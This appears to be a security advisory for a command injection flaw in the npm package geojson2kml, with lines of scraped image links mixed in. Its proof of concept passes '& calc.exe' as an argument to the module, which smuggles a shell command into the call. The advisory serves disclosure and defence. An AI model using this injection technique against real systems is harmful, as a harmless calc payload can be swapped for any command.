vulnerability command injection
severity 7.3
language javascript
registry npm


geojson2kml is vulnerable to Command Injection.

Proof of Concept

  1. Create the following PoC file:// poc.js
var a =require("geojson2kml");
a("./","& calc.exe",function(){})

  1. Execute the following commands in another terminal:
npm i geojson2kml #Install affected module
node poc.js #  Run the PoC
  1.On execution, windowsapplication "calc.exe" will get open.